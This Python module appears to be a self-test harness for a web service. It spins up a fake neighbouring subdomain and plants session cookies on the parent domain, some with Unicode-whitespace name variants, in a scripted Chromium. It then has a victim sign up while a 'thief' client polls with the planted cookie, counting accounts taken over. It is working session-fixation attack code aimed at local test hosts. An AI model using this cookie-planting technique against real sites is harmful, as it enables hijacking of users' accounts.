"""A neighbouring host of the service in a browser. It plants cookies, and takes over accounts with them."""

import asyncio
import contextlib
import http.server
import re
import ssl
import tempfile
import threading
import types
import urllib.parse
from collections.abc import Iterator
from pathlib import Path

from service.hostile.nginx import Proxy
from web.answers import DEVICE
from web.client import Client
from web.devtools import Browser, Fault, Tab
from web.journey import PASSWORD, WORDS
from web.service import Service, fingerprint
from web.takeovers import PLANTED, Takeovers, Thief

GUIDE = Path(__file__).resolve().parents[2] / "docs" / "operate" / "run.md"
# The forms of cookies that Chromium stores. The service sets the third one, and a script of the neighbour the others.
FORMS = ("U+2000", "U+00A0", "U+3000", "U+037E")
# The service compares the origin of a form with the host, so the proxy has the port of https.
ADDRESS, PORT = "127.0.0.77", 8443
HOST, NEIGHBOUR = "udids.example.org", "neighbour.example.org"


class Deployment(Proxy):
    """nginx with the example of deploy, and the pages as the guide adds them."""

    def settings(self) -> str:
        text = super().settings()
        if "/web" not in text:
            pages = re.findall(r"^ *(location \S+ .*web.*)$", GUIDE.read_text(), re.MULTILINE)
            text = text.replace("location / {", "\n".join([*pages, "location / {"]))
        return text.replace(f"listen 127.0.0.1:{self.port} ssl;", f"listen 127.0.0.1:{self.port} ssl; listen {ADDRESS}:443 ssl;")


class Neighbour(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        if value := urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query).get("set"):
            self.send_header("Set-Cookie", value[0].encode().decode("latin-1"))
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>A neighbour</title>")

    def log_message(self, format: str, *arguments: object) -> None:
        pass


@contextlib.contextmanager
def neighbouring(proxy: Proxy) -> Iterator[None]:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(proxy.certificate.chain, proxy.certificate.key)
    with http.server.ThreadingHTTPServer((ADDRESS, PORT), Neighbour) as server:
        server.socket = context.wrap_socket(server.socket, server_side=True)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield
        finally:
            server.shutdown()


def plant(tab: Tab, form: str, cookie: str) -> None:
    text = PLANTED[form].format(f"{DEVICE}={cookie}") if form else f"{DEVICE}={cookie}"
    text += "; domain=example.org; path=/; secure"
    query = f"?{urllib.parse.urlencode({'set': text})}" if form == "U+3000" else ""
    tab.open(f"https://{NEIGHBOUR}:{PORT}/{query}")
    if not query:
        tab.evaluate(f"document.cookie = '{text}'")


def visit(browser: Browser, form: str, cookie: str) -> Tab:
    """Opens the pages of the service in a browser with the planted cookie."""
    tab = browser.tab("en", scripts=True)
    plant(tab, form, cookie)
    found = browser.call("Storage.getCookies", browserContextId=tab.context)["cookies"]
    if bool(form) != any(cookie in each["name"] + each["value"] for each in found):
        raise Fault(f"Chromium stores the planted cookies {found} of the form “{form}”")
    tab.open(f"https://{HOST}/web")
    return tab


def read(browser: Browser, place: Service, takeovers: Takeovers) -> None:
    """The forms of a planted cookie that the service reads as its own."""
    thief = Client(place, "127.8.255.1")
    thief.begin()
    thief.press("Sign up")
    thief.press("Sign up", name="neighbour", password=PASSWORD)
    taken = sum("neighbour" in visit(browser, form, thief.cookies[DEVICE]).text() for form in ("", *FORMS))
    takeovers.report("planted cookies in Chromium", taken, len(FORMS))


def take_over(browser: Browser, place: Service, takeovers: Takeovers, rounds: int) -> None:
    """A victim signs up in a browser with a planted cookie, while the thief polls with it."""
    taken = polls = 0
    words = WORDS["en"]
    for number in range(rounds):
        name = f"guest-{number}"
        thief = Client(place, "127.8.255.1" if number % 2 else "127.8.254.1")
        thief.begin()
        cookie = thief.cookies[DEVICE]
        tab = visit(browser, FORMS[number % len(FORMS)], cookie)
        with Thief([place], cookie, 20, 2) as polling:
            tab.click(words["start"])
            tab.click(words["skip"])
            tab.click(words["sign up"])
            tab.type("#f-name", name)
            tab.type("#f-password", PASSWORD)
            tab.click(words["register"])
            if name not in tab.heading():
                raise Fault(f"the victim cannot sign up: {tab.text()[:300]}")
        taken += polling.sees(name)
        polls += polling.count
        tab.open(f"https://{HOST}/web")
        if name not in tab.heading():
            raise Fault(f"the victim is not logged in any longer: {tab.text()[:300]}")
    takeovers.report("accounts taken over behind nginx", taken, rounds, f"({polls} polls)")


def run(service: Service, program: str, rounds: int) -> list[str]:
    """Needs a service without TLS that trusts the proxy at 127.0.0.1."""
    async def campaign() -> list[str]:
        takeovers = Takeovers([service], rounds)
        with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as folder:
            async with Deployment(Path(folder), service) as proxy:  # type: ignore[arg-type]
                place = types.SimpleNamespace(port=proxy.port, secure=True, certificate=proxy.certificate.chain)
                with neighbouring(proxy), Browser(
                        program, Path(folder) / "profile", fingerprint(proxy.certificate.chain),
                        f"--host-resolver-rules=MAP *.example.org {ADDRESS}") as browser:
                    read(browser, place, takeovers)  # type: ignore[arg-type]
                    take_over(browser, place, takeovers, rounds)  # type: ignore[arg-type]
        return takeovers.faults

    return asyncio.run(campaign())
